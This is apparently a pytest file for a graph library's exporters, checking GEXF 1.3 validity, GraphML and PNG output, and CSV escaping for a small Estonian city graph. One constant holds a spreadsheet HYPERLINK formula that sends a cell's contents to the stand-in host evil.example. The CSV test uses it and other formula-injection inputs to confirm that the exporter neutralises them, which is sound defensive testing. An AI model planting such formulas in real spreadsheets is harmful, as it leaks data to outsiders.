"""Exports as Gephi, yEd and a spreadsheet see them: valid GEXF 1.3 with names as labels,
the drawing's positions and colours, a PNG with title and legend, CSV that runs nothing."""

from __future__ import annotations

import copy
import csv
import io
import zipfile
from pathlib import Path

import networkx as nx
import pytest
from lxml import etree
from PIL import Image

from graph.render import html
from graph.render.export import (
    GEXF_NS,
    POSITION_SCALE,
    VIZ_NS,
    Drawing,
    drawing_of,
    export_bytes,
    records_csv,
)
from graph.render.picture import HEIGHT, WIDTH

SCHEMAS = Path(__file__).parent / "fixtures" / "gexf-1.3"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    g.add_node("country:ee", label="Country", name="Estonia", code="EE")
    g.add_node(
        "city:ee:tartu",
        label="City",
        name="Tartu",
        names=["Tartu", "Dorpat"],
        lat=58.38,
        sources=["source:a"],
    )
    g.add_node("city:ee:voru", label="City", name="Võru")
    g.add_node("practice:bikes", label="Practice", title="Bikes for all", summary=FORMULA)
    g.add_node("event:2024-05-01:forum", label="Event", title="Forum", date="2024-05-01")
    g.add_node("topic:mobility", label="Topic", name="mobility")
    g.add_node("source:a", label="Source", path="recaps/a.txt", synthetic=False)
    for u, rel, v in (
        ("city:ee:tartu", "IN", "country:ee"),
        ("city:ee:voru", "IN", "country:ee"),
        ("city:ee:tartu", "SHARED", "practice:bikes"),
        ("practice:bikes", "PRESENTED_AT", "event:2024-05-01:forum"),
        ("practice:bikes", "ABOUT", "topic:mobility"),
        ("event:2024-05-01:forum", "ABOUT", "topic:mobility"),
        ("event:2024-05-01:forum", "HELD_IN", "city:ee:tartu"),
        ("source:a", "DESCRIBES", "event:2024-05-01:forum"),
    ):
        g.add_edge(u, v, key=rel, type=rel, sources=["source:a"])
    return g


@pytest.fixture(scope="module")
def relax_ng() -> etree.RelaxNG:
    return etree.RelaxNG(etree.parse(str(SCHEMAS / "gexf.rng")))


@pytest.fixture(scope="module")
def xsd() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(SCHEMAS / "gexf.xsd")))


def without_viz(document: etree._Element) -> etree._Element:
    bare = copy.deepcopy(document)
    for element in bare.iter(f"{{{VIZ_NS}}}*"):
        element.getparent().remove(element)
    return bare


def test_gexf_is_valid_gexf_1_3(relax_ng: etree.RelaxNG, xsd: etree.XMLSchema) -> None:
    document = etree.fromstring(export_bytes(graph(), "gexf"))
    assert relax_ng.validate(document), relax_ng.error_log
    assert xsd.validate(without_viz(document)), xsd.error_log
    # the schemas do catch what the old export wrote: the relation in the edge's ``type``
    edge = document.find(f".//{{{GEXF_NS}}}edge")
    edge.set("type", "SHARED")
    assert not relax_ng.validate(document)
    assert not xsd.validate(without_viz(document))


def test_gexf_round_trips_with_names_as_labels() -> None:
    g = graph()
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    assert set(read.nodes) == set(g.nodes)
    assert read.nodes["city:ee:voru"]["label"] == "Võru"
    assert read.nodes["practice:bikes"]["label"] == "Bikes for all"
    assert read.nodes["city:ee:tartu"]["kind"] == "City"
    assert read.nodes["city:ee:tartu"]["lat"] == pytest.approx(58.38)
    assert read.nodes["city:ee:tartu"]["names"] == "Tartu;Dorpat"
    assert read.nodes["source:a"]["synthetic"] is False
    relations = sorted(d["relation"] for *_, d in read.edges(data=True))
    assert relations == sorted(k for *_, k in g.edges(keys=True))


def test_gexf_and_graphml_carry_the_drawings_positions_and_colours() -> None:
    g = graph()
    drawing = Drawing(
        positions={n: (i / 10, -i / 10) for i, n in enumerate(sorted(g))},
        colours={n: "#123456" for n in g},
        sizes={n: 20.0 for n in g},
    )
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf", drawing=drawing)))
    for i, node in enumerate(sorted(g)):
        viz = read.nodes[node]["viz"]
        # Gephi's y axis points up, the screen's down
        assert viz["position"]["x"] == pytest.approx(i / 10 * POSITION_SCALE)
        assert viz["position"]["y"] == pytest.approx(i / 10 * POSITION_SCALE)
        assert (viz["color"]["r"], viz["color"]["g"], viz["color"]["b"]) == (0x12, 0x34, 0x56)
        assert viz["size"] == pytest.approx(20.0)
    graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml", drawing=drawing)))
    tartu = graphml.nodes["city:ee:tartu"]
    assert (tartu["label"], tartu["kind"]) == ("Tartu", "City")
    assert (tartu["r"], tartu["g"], tartu["b"], tartu["color"]) == (0x12, 0x34, 0x56, "#123456")
    assert tartu["x"] == pytest.approx(drawing.positions["city:ee:tartu"][0] * POSITION_SCALE)
    assert {d["relation"] for *_, d in graphml.edges(data=True)} >= {"SHARED", "ABOUT"}


def test_default_drawing_is_the_network_views_layout_and_kind_colours() -> None:
    g = graph()
    drawing = drawing_of(g)
    assert drawing.positions == html.layout(g)
    assert drawing.colours["city:ee:tartu"] == html.LABEL_STYLE["City"][0]
    read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
    x, _ = html.layout(g)["practice:bikes"]
    assert read.nodes["practice:bikes"]["viz"]["position"]["x"] == pytest.approx(
        x * POSITION_SCALE, abs=0.01
    )


def colours(image: Image.Image) -> list[tuple[int, tuple[int, ...]]]:
    """(count, colour) of every colour of a colour image."""
    found = image.getcolors(maxcolors=image.width * image.height) or []
    return [(count, colour) for count, colour in found if isinstance(colour, tuple)]


def test_png_is_twice_the_size_with_title_and_legend() -> None:
    g = graph()
    picture = Image.open(io.BytesIO(export_bytes(g, "png", title="citygraph: Estonia")))
    assert picture.size == (2 * WIDTH, 2 * HEIGHT)
    rgb = picture.convert("RGB")
    title_band = rgb.crop((0, 0, picture.width, 48 * 2))
    assert min(sum(c) for _, c in colours(title_band)) < 200  # dark text in the title band
    legend_band = {c for _, c in colours(rgb.crop((0, picture.height - 140, *picture.size)))}
    for kind in ("City", "Country", "Practice", "Event", "Topic", "Source"):
        colour = html.LABEL_STYLE[kind][0].lstrip("#")
        assert tuple(int(colour[i : i + 2], 16) for i in (0, 2, 4)) in legend_band, kind


def test_csv_cells_never_run_as_formulas() -> None:
    with zipfile.ZipFile(io.BytesIO(export_bytes(graph(), "csv"))) as zf:
        nodes = list(csv.DictReader(io.StringIO(zf.read("nodes.csv").decode())))
    practice = next(r for r in nodes if r["id"] == "practice:bikes")
    assert practice["summary"] == "'" + FORMULA
    assert (practice["label"], practice["kind"]) == ("Bikes for all", "Practice")
    rows = list(
        csv.reader(
            io.StringIO(
                records_csv(
                    [{"city": "@SUM(1+1)", "note": "\tx", "score": -1.5, "minus": "-1"}]
                ).decode()
            )
        )
    )
    assert rows == [["city", "note", "score", "minus"], ["'@SUM(1+1)", "'\tx", "-1.5", "'-1"]]
